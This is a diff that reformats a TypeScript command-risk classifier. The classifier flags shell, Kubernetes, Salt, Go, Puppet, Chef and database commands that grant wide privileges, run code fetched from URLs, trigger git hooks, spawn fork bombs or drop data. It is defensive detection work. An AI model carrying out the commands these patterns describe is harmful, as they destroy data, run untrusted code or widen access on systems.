-      if (/^(?:patch|edit|apply|replace|set)$/.test(words[0] ?? "") && /\b(?:clusterrole|clusterrolebinding|role|rolebinding)s?(?:\.rbac\.authorization\.k8s\.io)?\b/.test(target) && texts.some((t) => /"(?:verbs|resources|apiGroups)"\s*:\s*\[[^\]]*"\*"|(?:verbs|resources):\s*\[?\s*["']?\*|cluster-admin/.test(t))) return add(ctx, "privilege_grant");
-      if (words[0] === "create" && /^(?:clusterrole|role)$/.test(words[1] ?? "") && texts.some((t) => /^--(?:verb|resource)=["']?\*/.test(t))) return add(ctx, "privilege_grant");
+      if (
+        /^(?:patch|edit|apply|replace|set)$/.test(words[0] ?? "") &&
+        /\b(?:clusterrole|clusterrolebinding|role|rolebinding)s?(?:\.rbac\.authorization\.k8s\.io)?\b/.test(target) &&
+        texts.some((t) =>
+          /"(?:verbs|resources|apiGroups)"\s*:\s*\[[^\]]*"\*"|(?:verbs|resources):\s*\[?\s*["']?\*|cluster-admin/.test(
+            t,
+          ),
+        )
+      )
+        return add(ctx, "privilege_grant");
+      if (
+        words[0] === "create" &&
+        /^(?:clusterrole|role)$/.test(words[1] ?? "") &&
+        texts.some((t) => /^--(?:verb|resource)=["']?\*/.test(t))
+      )
+        return add(ctx, "privilege_grant");
       // A cluster service forwarded on every interface: anyone on the network reaches it.
       if (words[0] === "port-forward") {
         const addr = valueOf("--address");
-        if (addr !== undefined && addr.split(",").some((a) => !/^(?:localhost|127(?:\.\d+){3}|::1)$/.test(a.trim()))) return add(ctx, "remote_access");
+        if (addr !== undefined && addr.split(",").some((a) => !/^(?:localhost|127(?:\.\d+){3}|::1)$/.test(a.trim())))
+          return add(ctx, "remote_access");
       }
       return;
     }
     case "gpg":
     case "gpg2":
-      if (texts.some((t) => /^--delete-(?:secret-)?(?:and-public-)?keys?$/.test(t)) && !has("--delete-secret-keys", "--delete-secret-and-public-keys", "--delete-keys", "--delete-key", "--delete-secret-key")) {
+      if (
+        texts.some((t) => /^--delete-(?:secret-)?(?:and-public-)?keys?$/.test(t)) &&
+        !has(
+          "--delete-secret-keys",
+          "--delete-secret-and-public-keys",
+          "--delete-keys",
+          "--delete-key",
+          "--delete-secret-key",
+        )
+      ) {
         const home = valueOf("--homedir");
         if (home === undefined || !isInsideLike(whereIn(ctx, home))) add(ctx, "credential_write");
       }
@@ -3256,8 +4732,14 @@ function judgeWiderEffects(ctx: JudgeContext, name: string): void {
       if (dir && ctx.created.size < 64) ctx.created.add(`hooks:${fetchKey(ctx, dir).replace(/\/*$/, "/")}`);
     }
     const hookDirs = [...ctx.created].filter((c) => c.startsWith("hooks:")).map((c) => c.slice(6));
-    if (/^(?:commit|merge|checkout|switch|pull|push|rebase|am|cherry-pick|revert|reset|clone|worktree)$/.test(words[0] ?? "")) {
-      for (const f of ctx.fetched) if (/(?:^|\/)\.git\/hooks\/[^/]+$/.test(f) || hookDirs.some((d) => f.startsWith(d))) return add(ctx, "remote_code_exec");
+    if (
+      /^(?:commit|merge|checkout|switch|pull|push|rebase|am|cherry-pick|revert|reset|clone|worktree)$/.test(
+        words[0] ?? "",
+      )
+    ) {
+      for (const f of ctx.fetched)
+        if (/(?:^|\/)\.git\/hooks\/[^/]+$/.test(f) || hookDirs.some((d) => f.startsWith(d)))
+          return add(ctx, "remote_code_exec");
     }
   }
   // `npm pkg set scripts.postinstall=CMD` (`npm set-script X CMD`): a script npm runs later, judged as a command now.
@@ -3278,14 +4760,26 @@ function judgeWiderEffects(ctx: JudgeContext, name: string): void {
       } else analyseInlineCode("ruby", code, ctx, args.find((a) => a.text === code)?.literal !== false);
     }
   }
-  if (interpreterLanguage(name) === "python" && texts.some((t) => /(?:^|\/)manage\.py$/.test(t)) && texts.some((t) => t === "shell" || t === "shell_plus")) {
+  if (
+    interpreterLanguage(name) === "python" &&
+    texts.some((t) => /(?:^|\/)manage\.py$/.test(t)) &&
+    texts.some((t) => t === "shell" || t === "shell_plus")
+  ) {
     const c = texts.findIndex((t) => t === "-c" || t === "--command");
-    const code = c >= 0 ? texts[c + 1] : texts.find((t) => t.startsWith("--command="))?.slice(10) ?? ctx.redirects.find((r) => r.body !== undefined)?.body;
+    const code =
+      c >= 0
+        ? texts[c + 1]
+        : (texts.find((t) => t.startsWith("--command="))?.slice(10) ??
+          ctx.redirects.find((r) => r.body !== undefined)?.body);
     if (code !== undefined) analyseInlineCode("python", code, ctx);
   }
   // SQL read from a file this command line wrote (`psql -f x.sql`, `mysql db < x.sql`, `sqlite3 db '.read x.sql'`).
   if (/^(?:psql|mysql|mariadb|sqlite3|sqlite|duckdb|clickhouse-client|cockroach|sqlcmd)$/.test(name)) {
-    const files = [valueOf("-f", "--file", "-i", "--input-file", "--queries-file"), ...ctx.redirects.filter((r) => r.op === "<" && r.body === undefined).map((r) => r.target), ...texts.map((t) => /^\.read\s+(\S+)$/.exec(t)?.[1])];
+    const files = [
+      valueOf("-f", "--file", "-i", "--input-file", "--queries-file"),
+      ...ctx.redirects.filter((r) => r.op === "<" && r.body === undefined).map((r) => r.target),
+      ...texts.map((t) => /^\.read\s+(\S+)$/.exec(t)?.[1]),
+    ];
     for (const f of files) {
       if (f === undefined) continue;
       const sql = writtenScript(ctx, f);
@@ -3296,14 +4790,33 @@ function judgeWiderEffects(ctx: JudgeContext, name: string): void {
   // `mongosh URI drop.js`, `mongosh < drop.js`): each is judged as if given on the command line.
   if (!ctx.fedFile && /^(?:redis-cli|valkey-cli|keydb-cli|mongosh|mongo)$/.test(name)) {
     const mongo = /^mongo/.test(name);
-    const files = [...ctx.redirects.filter((r) => r.op === "<" && r.body === undefined).map((r) => r.target), ...(mongo ? texts.filter((t) => /\.js$/.test(t)) : [])];
+    const files = [
+      ...ctx.redirects.filter((r) => r.op === "<" && r.body === undefined).map((r) => r.target),
+      ...(mongo ? texts.filter((t) => /\.js$/.test(t)) : []),
+    ];
     for (const f of files) {
       const text = writtenScript(ctx, f);
       if (typeof text !== "string") continue;
       const kept = args.filter((a) => a.text !== f);
       const lit = (x: string): JudgedArg => ({ text: x, literal: true });
-      if (mongo) judgeCommand({ ...ctx, fedFile: true, redirects: [], producer: null, args: [...kept, lit("--eval"), lit(text)] });
-      else for (const line of text.split("\n").slice(0, 32)) if (line.trim()) judgeCommand({ ...ctx, fedFile: true, redirects: [], producer: null, args: [...kept, ...line.trim().split(/\s+/).map(lit)] });
+      if (mongo)
+        judgeCommand({
+          ...ctx,
+          fedFile: true,
+          redirects: [],
+          producer: null,
+          args: [...kept, lit("--eval"), lit(text)],
+        });
+      else
+        for (const line of text.split("\n").slice(0, 32))
+          if (line.trim())
+            judgeCommand({
+              ...ctx,
+              fedFile: true,
+              redirects: [],
+              producer: null,
+              args: [...kept, ...line.trim().split(/\s+/).map(lit)],
+            });
     }
   }
   // `go run FILE.go` of a file written on this command line: its code is what runs.
@@ -3327,7 +4840,15 @@ function judgeWiderEffects(ctx: JudgeContext, name: string): void {
       const local = bind !== undefined && /^(?:localhost|127(?:\.\d+){3}|::1)$/.test(bind);
       const served = dir ?? ctx.cwd;
       const w = whereIn(ctx, served);
-      if (!local && (w === "system" || w === "credential" || w === "home" || posix.normalize(served) === "/" || (w === "outside" && SYSTEM_TOP.test(served)))) add(ctx, "remote_access");
+      if (
+        !local &&
+        (w === "system" ||
+          w === "credential" ||
+          w === "home" ||
+          posix.normalize(served) === "/" ||
+          (w === "outside" && SYSTEM_TOP.test(served)))
+      )
+        add(ctx, "remote_access");
     }
   }
   if (lang === "php") {
@@ -3347,7 +4868,12 @@ function judgeWiderEffects(ctx: JudgeContext, name: string): void {
 /** Go source: file-system calls on literal paths, commands it runs, itself spawned in an endless loop, memory bombs. */
 function judgeGoCode(ctx: JudgeContext, code: string): void {
   const str = String.raw`"((?:[^"\\]|\\.)*)"|` + "`([^`]*)`";
-  for (const m of code.matchAll(new RegExp(String.raw`\bos\.(RemoveAll|Remove|WriteFile|Create|Truncate|Rename|Chmod|Chown|OpenFile)\(\s*(?:${str})`, "g"))) {
+  for (const m of code.matchAll(
+    new RegExp(
+      String.raw`\bos\.(RemoveAll|Remove|WriteFile|Create|Truncate|Rename|Chmod|Chown|OpenFile)\(\s*(?:${str})`,
+      "g",
+    ),
+  )) {
     const path = m[2] ?? m[3] ?? "";
     if (m[1] === "RemoveAll" || m[1] === "Remove") judgeDelete(ctx, path, m[1] === "RemoveAll");
     else if (m[1] === "Rename") judgeMove(ctx, [path], undefined);
@@ -3360,12 +4886,17 @@ function judgeGoCode(ctx: JudgeContext, code: string): void {
   if (/\bos\.(?:RemoveAll|Remove|WriteFile|Rename)\(\s*[A-Za-z_]/.test(code)) add(ctx, "inline_code_unanalysable");
   for (const m of code.matchAll(/\bexec\.Command(?:Context)?\(\s*(?:ctx\s*,\s*)?([^)]*)\)/g)) {
     const words = [...m[1]!.matchAll(/"((?:[^"\\]|\\.)*)"|`([^`]*)`/g)].map((x) => x[1] ?? x[2] ?? "");
-    if (words.length && /^(?:\/bin\/)?(?:ba|da|z)?sh$/.test(words[0]!) && words[1] === "-c" && words[2] !== undefined) ctx.analyseShell(words[2]);
-    else if (words.length && !/\/proc\/self\/exe/.test(words[0]!)) ctx.analyseShell(words.map((w) => `'${w.replace(/'/g, "'\\''")}'`).join(" "));
+    if (words.length && /^(?:\/bin\/)?(?:ba|da|z)?sh$/.test(words[0]!) && words[1] === "-c" && words[2] !== undefined)
+      ctx.analyseShell(words[2]);
+    else if (words.length && !/\/proc\/self\/exe/.test(words[0]!))
+      ctx.analyseShell(words.map((w) => `'${w.replace(/'/g, "'\\''")}'`).join(" "));
   }
   // The program started again by itself (its own executable), or any process started on every turn of an endless loop.
-  const spawnsSelf = /\/proc\/self\/exe|os\.Args\[0\]|os\.Executable\(\)/.test(code) && /\bexec\.Command|\bos\.StartProcess|\bsyscall\.(?:ForkExec|Exec)/.test(code);
-  const endlessSpawn = /\bfor\s*\{[^}]*(?:exec\.Command[^}]*\.Start\(\)|os\.StartProcess|syscall\.ForkExec|go\s+func)/s.test(code);
+  const spawnsSelf =
+    /\/proc\/self\/exe|os\.Args\[0\]|os\.Executable\(\)/.test(code) &&
+    /\bexec\.Command|\bos\.StartProcess|\bsyscall\.(?:ForkExec|Exec)/.test(code);
+  const endlessSpawn =
+    /\bfor\s*\{[^}]*(?:exec\.Command[^}]*\.Start\(\)|os\.StartProcess|syscall\.ForkExec|go\s+func)/s.test(code);
   if (spawnsSelf || endlessSpawn) add(ctx, "fork_bomb");
   if (memoryBomb(code)) add(ctx, "resource_exhaustion");
 }
@@ -3387,7 +4918,11 @@ function judgePuppetCode(ctx: JudgeContext, code: string): void {
     const type = m[1]!.toLowerCase();
     const title = m[3]!;
     const body = m[4]!;
-    const attr = (k: string) => new RegExp(String.raw`\b${k}\s*=>\s*(?:(['"])((?:(?!\1)[^\\]|\\.)*)\1|(\[[^\]]*\]|[\w:-]+))`).exec(body)?.slice(2).find((x) => x !== undefined);
+    const attr = (k: string) =>
+      new RegExp(String.raw`\b${k}\s*=>\s*(?:(['"])((?:(?!\1)[^\\]|\\.)*)\1|(\[[^\]]*\]|[\w:-]+))`)
+        .exec(body)
+        ?.slice(2)
+        .find((x) => x !== undefined);
     const ensure = (attr("ensure") ?? "").toLowerCase();
     switch (type) {
       case "exec":
@@ -3395,7 +4930,8 @@ function judgePuppetCode(ctx: JudgeContext, code: string): void {
         break;
       case "file":
         if (/^(?:absent|purged)$/.test(ensure)) judgeDelete(ctx, attr("path") ?? title, true);
-        else if (attr("content") !== undefined || attr("source") !== undefined || ensure === "link") judgeOverwrite(ctx, attr("path") ?? title);
+        else if (attr("content") !== undefined || attr("source") !== undefined || ensure === "link")
+          judgeOverwrite(ctx, attr("path") ?? title);
         else if (attr("mode") !== undefined || attr("owner") !== undefined) {
           const w = whereIn(ctx, attr("path") ?? title);
           if (w === "system" || w === "credential") add(ctx, "chmod_chown_system");
@@ -3429,7 +4965,9 @@ function judgePuppetCode(ctx: JudgeContext, code: string): void {
 
 /** Chef resources given to chef-apply (`directory "/x" do action :delete end`, `execute "cmd"`, `service "x" do action :stop end`). */
 function judgeChefCode(ctx: JudgeContext, code: string): void {
-  for (const m of code.matchAll(/\b(directory|file|template|cookbook_file|remote_file|link|execute|bash|script|service|systemd_unit|user|group|package|apt_package|yum_package|cron|mount)\s*\(?\s*(['"])([^'"]*)\2\s*\)?\s*(?:do\b([\s\S]*?)\bend\b)?/g)) {
+  for (const m of code.matchAll(
+    /\b(directory|file|template|cookbook_file|remote_file|link|execute|bash|script|service|systemd_unit|user|group|package|apt_package|yum_package|cron|mount)\s*\(?\s*(['"])([^'"]*)\2\s*\)?\s*(?:do\b([\s\S]*?)\bend\b)?/g,
+  )) {
     const type = m[1]!;
     const title = m[3]!;
     const body = m[4] ?? "";
@@ -3443,7 +4981,8 @@ function judgeChefCode(ctx: JudgeContext, code: string): void {
       case "remote_file":
       case "link": {
         const path = attr("path") ?? title;
-        if (/:delete\b/.test(actions)) judgeDelete(ctx, path, type === "directory" && /\brecursive\s+true\b/.test(body) || type !== "directory");
+        if (/:delete\b/.test(actions))
+          judgeDelete(ctx, path, (type === "directory" && /\brecursive\s+true\b/.test(body)) || type !== "directory");
         else if (type !== "directory" && !/:nothing\b/.test(actions)) judgeOverwrite(ctx, path);
         break;
       }
@@ -3486,7 +5025,11 @@ function taskfileCommands(text: string): string {
   return out.join("\n");
 }
 function justRecipes(text: string): string {
-  return text.split("\n").filter((l) => /^\s+\S/.test(l)).map((l) => l.trim().replace(/^[@-]+/, "")).join("\n");
+  return text
+    .split("\n")
+    .filter((l) => /^\s+\S/.test(l))
+    .map((l) => l.trim().replace(/^[@-]+/, ""))
+    .join("\n");
 }
 /** Gradle Exec tasks: `commandLine("sh", "-c", "…")`, `commandLine 'rm', '-rf', …`, `exec { … }`, `"cmd".execute()`. */
 function gradleCommands(ctx: JudgeContext, text: string): void {
@@ -3499,7 +5042,8 @@ function gradleCommands(ctx: JudgeContext, text: string): void {
 }
 
 /** Compiled code written on the line: effects that cannot be read (a call that deletes, runs or changes things) count as unanalysable. */
-const NATIVE_EFFECT = /\b(?:unlink|unlinkat|remove|rmdir|remove_dir_all|remove_dir|remove_file|RemoveAll|Remove|system|popen|exec[lv]p?e?|execve|Command::new|kill|reboot|truncate|ftruncate|chmod|chown|setuid|mount|umount2?|socket|connect|fork|rename|open|fopen|write|create|File::create|OpenOptions|os\.WriteFile|ptrace|delete|DeleteFile)\s*[(!:]/;
+const NATIVE_EFFECT =
+  /\b(?:unlink|unlinkat|remove|rmdir|remove_dir_all|remove_dir|remove_file|RemoveAll|Remove|system|popen|exec[lv]p?e?|execve|Command::new|kill|reboot|truncate|ftruncate|chmod|chown|setuid|mount|umount2?|socket|connect|fork|rename|open|fopen|write|create|File::create|OpenOptions|os\.WriteFile|ptrace|delete|DeleteFile)\s*[(!:]/;
 
 /**
  * What compiled source does, as a shell script: file deletes and writes with literal paths (`remove_dir_all("x")`,
@@ -3516,8 +5060,19 @@ function nativeAsShell(source: string): string | null {
       return "_";
     });
   };
-  take(new RegExp(String.raw`\b(?:std::fs::|fs::)?(?:remove_dir_all|RemoveAll)\s*\(\s*` + str + String.raw`\s*\)`, "g"), (m) => `rm -rf ${quoteWord(m[1]!)}`);
-  take(new RegExp(String.raw`\b(?:std::fs::|fs::|os\.)?(?:remove_file|remove_dir|unlink|rmdir|remove|Remove)\s*\(\s*` + str + String.raw`\s*\)`, "g"), (m) => `rm -f ${quoteWord(m[1]!)}`);
+  take(
+    new RegExp(String.raw`\b(?:std::fs::|fs::)?(?:remove_dir_all|RemoveAll)\s*\(\s*` + str + String.raw`\s*\)`, "g"),
+    (m) => `rm -rf ${quoteWord(m[1]!)}`,
+  );
+  take(
+    new RegExp(
+      String.raw`\b(?:std::fs::|fs::|os\.)?(?:remove_file|remove_dir|unlink|rmdir|remove|Remove)\s*\(\s*` +
+        str +
+        String.raw`\s*\)`,
+      "g",
+    ),
+    (m) => `rm -f ${quoteWord(m[1]!)}`,
+  );
   take(new RegExp(String.raw`\bsystem\s*\(\s*` + str + String.raw`\s*\)`, "g"), (m) => m[1]!.replace(/\\"/g, '"'));
   if (NATIVE_EFFECT.test(rest) || /\b(?:asm|__asm__|syscall)\b/.test(rest)) return null;
   return lines.join("\n") || "true";
@@ -3546,60 +5101,127 @@ function judgeElsewhere(ctx: JudgeContext, name: string): void {
     return [];
   };
   // Runtimes that run a program named by a URL (`deno run URL`, `bun run URL`, `bun URL`, `deno URL`): downloaded code runs.
-  if (/^(?:deno|bun|bunx|npx|tsx|ts-node|node|jbang|scala-cli|kotlin|java|groovy|julia|Rscript|elixir|lua|raku|pwsh)$/.test(name)) {
-    const op = args.find((a, k) => !a.text.startsWith("-") && !/^(?:run|x|exec|start)$/.test(a.text) && !/^(?:--(?:config|import-map|cert|location|reload|lock)|-c|-r)$/.test(texts[k - 1] ?? ""));
-    if (op && /^(?:https?|jsr|npm:https?):\/\//.test(op.text) && !(name === "deno" && /^(?:install|cache|info|fmt|lint|doc|check)$/.test(texts[0] ?? ""))) add(ctx, "remote_code_exec");
+  if (
+    /^(?:deno|bun|bunx|npx|tsx|ts-node|node|jbang|scala-cli|kotlin|java|groovy|julia|Rscript|elixir|lua|raku|pwsh)$/.test(
+      name,
+    )
+  ) {
+    const op = args.find(
+      (a, k) =>
+        !a.text.startsWith("-") &&
+        !/^(?:run|x|exec|start)$/.test(a.text) &&
+        !/^(?:--(?:config|import-map|cert|location|reload|lock)|-c|-r)$/.test(texts[k - 1] ?? ""),
+    );
+    if (
+      op &&
+      /^(?:https?|jsr|npm:https?):\/\//.test(op.text) &&
+      !(name === "deno" && /^(?:install|cache|info|fmt|lint|doc|check)$/.test(texts[0] ?? ""))
+    )
+      add(ctx, "remote_code_exec");
   }
   // Git hooks written on this command line run when git commits, merges, checks out, rebases or pushes.
-  if (name === "git" && /^(?:commit|merge|checkout|switch|push|rebase|pull|am|cherry-pick|revert)$/.test(words[0] ?? "") && !texts.includes("--no-verify") && !texts.includes("-n")) {
-    for (const [file, text] of ctx.scripts) if (/(?:^|\/)\.git\/hooks\/[\w-]+$/.test(file)) text === null ? add(ctx, "shell_input") : ctx.analyseShell(text);
+  if (
+    name === "git" &&
+    /^(?:commit|merge|checkout|switch|push|rebase|pull|am|cherry-pick|revert)$/.test(words[0] ?? "") &&
+    !texts.includes("--no-verify") &&
+    !texts.includes("-n")
+  ) {
+    for (const [file, text] of ctx.scripts)
+      if (/(?:^|\/)\.git\/hooks\/[\w-]+$/.test(file)) text === null ? add(ctx, "shell_input") : ctx.analyseShell(text);
   }
   // Salt: `salt TARGET FUNCTION ARGS`, `salt-call FUNCTION ARGS`, `salt-ssh`: the execution module's effect on each minion.
   if (/^salt(?:-call|-ssh|-run)?$/.test(name)) {
     if (texts.some((t) => /^test=(?:true|1)$/i.test(t))) return;
-    const f = texts.findIndex((t, k) => /^[a-z_]+\.[a-z_]+$/.test(t) && !/^(?:-[a-zA-Z]|--(?:out|timeout|log-level|config-dir|return|batch-size|subset|grain|pillar|nodegroup|compound|list|pcre|grain-pcre|range|ipcidr|module-executors|id|master|saltenv|pillarenv))$/.test(texts[k - 1] ?? ""));
+    const f = texts.findIndex(
+      (t, k) =>
+        /^[a-z_]+\.[a-z_]+$/.test(t) &&
+        !/^(?:-[a-zA-Z]|--(?:out|timeout|log-level|config-dir|return|batch-size|subset|grain|pillar|nodegroup|compound|list|pcre|grain-pcre|range|ipcidr|module-executors|id|master|saltenv|pillarenv))$/.test(
+          texts[k - 1] ?? "",
+        ),
+    );
     if (f < 0) return;
     const fn = texts[f]!;
     const rest = texts.slice(f + 1);
     const pos = rest.filter((t) => !/^\w+=/.test(t));
-    const kw = new Map(rest.filter((t) => /^\w+=/.test(t)).map((t) => [t.slice(0, t.indexOf("=")), t.slice(t.indexOf("=") + 1)]));
+    const kw = new Map(
+      rest.filter((t) => /^\w+=/.test(t)).map((t) => [t.slice(0, t.indexOf("=")), t.slice(t.indexOf("=") + 1)]),
+    );
     const [mod, verb] = fn.split(".") as [string, string];
     if (mod === "cmd") {
-      if (/^(?:run|shell|run_all|run_stdout|run_stderr|run_bg|exec_code|exec_code_all|powershell|retcode)$/.test(verb)) runWords(ctx, pos.length ? [pos.join(" ")] : [kw.get("cmd") ?? ""].filter(Boolean));
+      if (/^(?:run|shell|run_all|run_stdout|run_stderr|run_bg|exec_code|exec_code_all|powershell|retcode)$/.test(verb))
+        runWords(ctx, pos.length ? [pos.join(" ")] : [kw.get("cmd") ?? ""].filter(Boolean));
       else if (/^script/.test(verb)) add(ctx, "shell_input");
     } else if (mod === "file") {
       const path = pos[0] ?? kw.get("path") ?? kw.get("name");
       if (path && /^(?:remove|absent|rmdir|delete_backup)$/.test(verb)) judgeDelete(ctx, path, true);
-      else if (path && /^(?:write|append|replace|managed|truncate|copy|rename|move|set_mode|chown|line|blockreplace|symlink|touch)$/.test(verb)) {
+      else if (
+        path &&
+        /^(?:write|append|replace|managed|truncate|copy|rename|move|set_mode|chown|line|blockreplace|symlink|touch)$/.test(
+          verb,
+        )
+      ) {
         if (verb === "set_mode" || verb === "chown") {
           const w = whereIn(ctx, path);
           if (w === "system" || w === "credential") add(ctx, "chmod_chown_system");
           else if (!isInsideLike(w)) add(ctx, "chmod_outside_workdir");
-        } else judgeOverwrite(ctx, verb === "copy" || verb === "rename" || verb === "move" ? pos[1] ?? path : path);
+        } else judgeOverwrite(ctx, verb === "copy" || verb === "rename" || verb === "move" ? (pos[1] ?? path) : path);
       }
-    } else if (mod === "service" && /^(?:stop|dead|disable|disabled|mask|masked|kill)$/.test(verb)) add(ctx, "stop_service");
-    else if (mod === "service" && /^(?:restart|reload|running|enable|enabled|start)$/.test(verb) && pos.some((p) => SYSTEM_UNIT.test(p))) add(ctx, "service_change");
+    } else if (mod === "service" && /^(?:stop|dead|disable|disabled|mask|masked|kill)$/.test(verb))
+      add(ctx, "stop_service");
+    else if (
+      mod === "service" &&
+      /^(?:restart|reload|running|enable|enabled|start)$/.test(verb) &&
+      pos.some((p) => SYSTEM_UNIT.test(p))
+    )
+      add(ctx, "service_change");
     else if (mod === "cron") {
       if (!/^(?:list_tab|ls|raw_cron)$/.test(verb)) add(ctx, "crontab_replace");
-    } else if ((mod === "user" || mod === "group" || mod === "shadow" || mod === "ssh") && !/^(?:info|list\w*|getent|get\w*|user_keys|auth_keys|check\w*|recv_known_host\w*)$/.test(verb)) add(ctx, "user_change");
+    } else if (
+      (mod === "user" || mod === "group" || mod === "shadow" || mod === "ssh") &&
+      !/^(?:info|list\w*|getent|get\w*|user_keys|auth_keys|check\w*|recv_known_host\w*)$/.test(verb)
+    )
+      add(ctx, "user_change");
     else if (mod === "pkg" && /^(?:remove|purge|removed|purged)$/.test(verb)) add(ctx, "package_remove");
     else if (mod === "system" && /^(?:reboot|halt|poweroff|shutdown)$/.test(verb)) add(ctx, "reboot_shutdown");
-    else if (mod === "iptables" && /^(?:flush|delete|insert|append|set_policy)$/.test(verb)) add(ctx, "firewall_change");
+    else if (mod === "iptables" && /^(?:flush|delete|insert|append|set_policy)$/.test(verb))
+      add(ctx, "firewall_change");
     else if (mod === "mount" && /^(?:mount|umount|remount|set_fstab|rm_fstab)$/.test(verb)) add(ctx, "mount_change");
-    else if ((mod === "sysctl" || mod === "kmod") && /^(?:assign|persist|present|load|remove|absent)$/.test(verb)) add(ctx, "kernel_change");
+    else if ((mod === "sysctl" || mod === "kmod") && /^(?:assign|persist|present|load|remove|absent)$/.test(verb))
+      add(ctx, "kernel_change");
     else if (mod === "ps" && /^(?:pkill|kill_pid|killall)$/.test(verb)) add(ctx, "kill_all_processes");
     return;
   }
   // Parallel shells over many hosts: the command runs on each.
-  if (/^(?:pdsh|pssh|parallel-ssh|clush|dsh|prsh|mussh|xsh)$/.test(name)) return runWords(ctx, commandAfterOptions(/^-(?:[wxlRftugXhHpoOe]|-hosts|-host|-user|-par|-timeout|-outdir|-errdir|-options|-group|-nodes|-exclude)$/));
+  if (/^(?:pdsh|pssh|parallel-ssh|clush|dsh|prsh|mussh|xsh)$/.test(name))
+    return runWords(
+      ctx,
+      commandAfterOptions(
+        /^-(?:[wxlRftugXhHpoOe]|-hosts|-host|-user|-par|-timeout|-outdir|-errdir|-options|-group|-nodes|-exclude)$/,
+      ),
+    );
   // Fabric / invoke / pyinfra / kubectl node-shell: everything after `--` is a command run on the target.
-  if ((/^(?:fab|fab2|invoke|inv|pyinfra|cssh)$/.test(name) || ((name === "kubectl" || name === "oc" || name === "k") && words.includes("node-shell"))) && afterDashes()) return runWords(ctx, afterDashes()!);
-  if (name === "pyinfra" && words.includes("exec")) return runWords(ctx, texts.slice(texts.indexOf("exec") + 1).filter((t) => t !== "--"));
+  if (
+    (/^(?:fab|fab2|invoke|inv|pyinfra|cssh)$/.test(name) ||
+      ((name === "kubectl" || name === "oc" || name === "k") && words.includes("node-shell"))) &&
+    afterDashes()
+  )
+    return runWords(ctx, afterDashes()!);
+  if (name === "pyinfra" && words.includes("exec"))
+    return runWords(
+      ctx,
+      texts.slice(texts.indexOf("exec") + 1).filter((t) => t !== "--"),
+    );
   // Configuration code applied at once.
   if (name === "puppet" && words[0] === "apply") {
     if (texts.includes("--noop")) return;
     for (const v of optValues(["-e"], ["--execute"])) judgePuppetCode(ctx, v);
-    for (const op of operands(args, "e", ["--execute", "--modulepath", "--environment", "--hiera_config", "--logdest"]).slice(1)) {
+    for (const op of operands(args, "e", [
+      "--execute",
+      "--modulepath",
+      "--environment",
+      "--hiera_config",
+      "--logdest",
+    ]).slice(1)) {
       const w = writtenScript(ctx, op.text);
       if (typeof w === "string") judgePuppetCode(ctx, w);
       else if (w === null) add(ctx, "shell_input");
@@ -3627,28 +5249,58 @@ function judgeElsewhere(ctx: JudgeContext, name: string): void {
         const gdbLike = /^(?:gdb|cgdb|lldb)$/.test(name);
         const sqlite = /^(?:sqlite3?|duckdb|litecli)$/.test(name);
         const kw = /^\s*(\\!|!|[^\s!]+)/.exec(line)![1]!;
-        if ((sqlite && /^\.(?:shell|system)$/.test(kw)) || (!sqlite && !gdbLike && /^(?:\\!|system)$/.test(kw)) || (gdbLike && /^(?:shell|!|platform)$/.test(kw)) || (name === "sqlplus" && /^(?:host|!)$/.test(kw))) ctx.analyseShell(m[1]!);
+        if (
+          (sqlite && /^\.(?:shell|system)$/.test(kw)) ||
+          (!sqlite && !gdbLike && /^(?:\\!|system)$/.test(kw)) ||
+          (gdbLike && /^(?:shell|!|platform)$/.test(kw)) ||
+          (name === "sqlplus" && /^(?:host|!)$/.test(kw))
+        )
+          ctx.analyseShell(m[1]!);
       }
     }
     // SQL written by a query and fed to another client (`psql -Atc "SELECT format('DROP TABLE %I', t) …" | psql`): the generated statements run.
-    if (ctx.producer && /^(?:psql|mysql|mariadb|sqlite3?|duckdb|clickhouse-client|cockroach)$/.test(ctx.producer.name) && !/^(?:gdb|cgdb|lldb)$/.test(name)) {
-      for (const a of ctx.producer.args) for (const m of a.text.matchAll(/'((?:[^']|'')*)'|"((?:[^"\\]|\\.)*)"/g)) {
-        const lit = (m[1] ?? m[2] ?? "").replace(/''/g, "'").replace(/%[IsLl]|\{\}|\?/g, "x");
-        if (/^\s*(?:DROP|TRUNCATE|DELETE|ALTER|UPDATE|GRANT|REVOKE)\b/i.test(lit)) for (const key of judgeSql(/\bx\b|\S\s*;?\s*$/.test(lit.trim()) && !/\s$/.test(lit) ? lit : `${lit} x`)) add(ctx, key);
-      }
+    if (
+      ctx.producer &&
+      /^(?:psql|mysql|mariadb|sqlite3?|duckdb|clickhouse-client|cockroach)$/.test(ctx.producer.name) &&
+      !/^(?:gdb|cgdb|lldb)$/.test(name)
+    ) {
+      for (const a of ctx.producer.args)
+        for (const m of a.text.matchAll(/'((?:[^']|'')*)'|"((?:[^"\\]|\\.)*)"/g)) {
+          const lit = (m[1] ?? m[2] ?? "").replace(/''/g, "'").replace(/%[IsLl]|\{\}|\?/g, "x");
+          if (/^\s*(?:DROP|TRUNCATE|DELETE|ALTER|UPDATE|GRANT|REVOKE)\b/i.test(lit))
+            for (const key of judgeSql(/\bx\b|\S\s*;?\s*$/.test(lit.trim()) && !/\s$/.test(lit) ? lit : `${lit} x`))
+              add(ctx, key);
+        }
     }
   }
   // Graph and key-value shells: `MATCH (n) DETACH DELETE n` with no WHERE empties the graph.
   if (/^(?:cypher-shell|neo4j|memgraph|mgconsole)$/.test(name) || texts.some((t) => /\bMATCH\s*\(/i.test(t))) {
     const fed = ctx.producer ? producedLiteral(ctx.producer) : null;
-    for (const t of [...texts, ...ctx.redirects.filter((r) => r.body !== undefined).map((r) => r.body!), ...(fed ? [fed] : [])]) {
-      if (/\bMATCH\s*\(\s*\w*\s*(?::\s*\w+\s*)?\)\s*(?:-\[[^\]]*\]->?\s*\(\s*\w*\s*\)\s*)?(?:DETACH\s+)?DELETE\b/i.test(t) && !/\bWHERE\b|\{\s*\w+\s*:/i.test(t)) add(ctx, "sql_delete_without_where");
-      if (/\b(?:DROP\s+(?:DATABASE|GRAPH|INDEX|CONSTRAINT)|apoc\.schema\.assert\s*\(\s*\{\s*\}\s*,\s*\{\s*\})/i.test(t) && name !== "grep") add(ctx, "sql_drop");
+    for (const t of [
+      ...texts,
+      ...ctx.redirects.filter((r) => r.body !== undefined).map((r) => r.body!),
+      ...(fed ? [fed] : []),
+    ]) {
+      if (
+        /\bMATCH\s*\(\s*\w*\s*(?::\s*\w+\s*)?\)\s*(?:-\[[^\]]*\]->?\s*\(\s*\w*\s*\)\s*)?(?:DETACH\s+)?DELETE\b/i.test(
+          t,
+        ) &&
+        !/\bWHERE\b|\{\s*\w+\s*:/i.test(t)
+      )
+        add(ctx, "sql_delete_without_where");
+      if (
